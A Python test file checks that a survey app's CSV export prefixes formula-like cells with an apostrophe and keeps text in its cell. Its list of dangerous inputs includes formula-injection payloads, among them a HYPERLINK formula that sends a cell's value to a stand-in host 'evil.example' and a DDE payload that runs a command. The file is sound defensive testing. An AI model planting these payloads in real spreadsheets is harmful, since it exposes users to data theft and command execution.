"""CSV in which nothing runs and nothing breaks out of its cell."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.surveys.rules import spreadsheet
from chalicelib.surveys.rules.spreadsheet import BOM, cell, lines

STARTS = "=+-@＝＋－＠\u2212\ufe63"
DANGEROUS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\x00=1+1",
    "\x1b=1+1",
    "\u2212 2",
]
TEXTS = st.text(
    alphabet=st.sampled_from([*"=+-@＝＋－＠;,|'\"\t\r\n ab\u200b\x00\ufeff\u00a0"]), max_size=20
) | st.text(max_size=30)


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_formula(found: str) -> bool:
    """What a spreadsheet that takes blanks and quotes lightly would run."""
    return bool(found.lstrip(' \t\r\n\v\f\u00a0\u200b\ufeff"\x00')[:1] in {*STARTS} - {""})


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_looks_like_a_formula_begins_with_an_apostrophe(text: str) -> None:
    (((found,)),) = (read(lines([[text]]))[0],)
    assert found.startswith("'")
    assert not is_formula(found)


@pytest.mark.parametrize("text", ["slow;=1+1", "slow\t=1+1", "slow\n=1+1", "slow | @SUM(A1)", 'a;"=1+1', "a;  ＝1"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_nothing_runs_where_a_spreadsheet_splits_elsewhere(text: str, delimiter: str) -> None:
    rows = read(lines([["id", text, 5]]), delimiter)
    assert not any(is_formula(found) for row in rows for found in row)


@given(st.lists(st.lists(TEXTS, min_size=1, max_size=4), min_size=1, max_size=4), st.sampled_from([",", ";", "\t"]))
def test_no_text_ever_becomes_a_formula(rows: list[list[str]], delimiter: str) -> None:
    for row in read(lines(rows), delimiter):
        assert not any(is_formula(found) for found in row)


@given(st.lists(st.lists(TEXTS, min_size=1, max_size=4), min_size=1, max_size=4))
def test_every_text_stays_in_its_cell(rows: list[list[str]]) -> None:
    found = read(lines(rows))
    assert [len(row) for row in found] == [len(row) for row in rows]
    for row, back in zip(rows, found, strict=True):
        for text, kept in zip(row, back, strict=True):
            plain = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", "", text)
            assert kept.replace("'", "") == plain.replace("'", "")


def test_numbers_stay_numbers_and_nothing_is_empty() -> None:
    assert lines([[-12.5, 7, None, "", "tea"]]) == '-12.5,7,,"","tea"\r\n'


def test_ordinary_texts_stay_as_they_are() -> None:
    for text in ("很好，谢谢！", "1-2 days", "a=b", "mail me @ home", "line\nbreak", 'say "hi"', "50% - not bad"):
        assert read(cell(text))[0] == [text]


def test_excel_is_told_that_it_is_utf_8() -> None:
    assert BOM.encode() == b"\xef\xbb\xbf"
    assert spreadsheet.lines([["茶"]]).encode() == '"茶"\r\n'.encode()
